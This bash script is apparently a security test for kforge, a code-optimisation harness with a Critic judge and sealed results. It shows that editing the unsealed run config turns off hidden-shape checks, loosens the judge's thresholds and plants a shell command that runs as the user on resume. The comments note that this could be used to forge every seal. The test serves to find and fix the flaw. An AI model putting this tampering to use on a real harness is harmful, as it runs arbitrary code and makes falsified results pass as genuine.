#!/usr/bin/env bash
# S3: runs.config_json is not sealed, yet `run --resume` and `submit` take the run's judge
# from it: the Critic's settings, the hidden-shape count, timing rounds, the agent and the
# critic agent (a command). Editing it (a) loosens the judge for every later node, which
# kforge then seals as genuine, and (b) plants a command that `kforge run --resume`
# executes as the user (who can read the keys directory: then every seal can be forged).
set -u
ROOT=$(cd "$(dirname "$0")/../../../.." && pwd)
KF=${KF:-$ROOT/build/kforge}; TASK=${TASK:-$ROOT/tasks/c/sum}
export KFORGE_KEYS=/tmp/rt-seal-keys; mkdir -p "$KFORGE_KEYS"
R=/tmp/rt-seal/s3; rm -rf "$R" /tmp/rt-seal/s3-pwned; mkdir -p /tmp/rt-seal
"$KF" run "$TASK" --budget 2 --seed 3 --run "$R" --min-runs 6 --max-runs 8 --min-time 0.01 --hidden 1 >/dev/null 2>&1
echo "before: $(sqlite3 "$R/run.db" 'select config_json from runs')"
cat > /tmp/rt-seal/s3-agent.sh <<A
#!/bin/sh
id > /tmp/rt-seal/s3-pwned   # anything, as the user: e.g. read the keys directory and forge every seal
cp "$TASK/candidates/fast.c" "\$KFORGE_OUT"
A
chmod +x /tmp/rt-seal/s3-agent.sh
sqlite3 "$R/run.db" "update runs set config_json=json_set(config_json,
  '\$.hidden',0,
  '\$.critic',json('[\"retimes=1\",\"max_speedup=1e9\",\"max_roofline=1e9\",\"suspicious_gain=1e9\",\"tiny_lines=0\"]'),
  '\$.agent','cmd:/tmp/rt-seal/s3-agent.sh')"
echo "after:  $(sqlite3 "$R/run.db" 'select config_json from runs')"
"$KF" run --resume "$R" --budget 4 2>&1 | tail -3
echo "--- planted command ran on resume?"; ls -l /tmp/rt-seal/s3-pwned 2>&1 && cat /tmp/rt-seal/s3-pwned
echo "--- tree"; "$KF" tree "$R" 2>&1
echo "--- integrity"; "$KF" best "$R" --json 2>&1 | grep -A5 '"integrity"'
echo "--- hidden shapes checked per node (the resumed ones: none), proposer"
for i in $(sqlite3 "$R/run.db" "select id from nodes"); do
  echo "node $i $(sqlite3 "$R/run.db" "select proposer||' '||state from nodes where id=$i") hidden_checks=$(sqlite3 "$R/run.db" "select verdict_json from nodes where id=$i" | grep -o '"kind":"hidden"' | wc -l)"
done
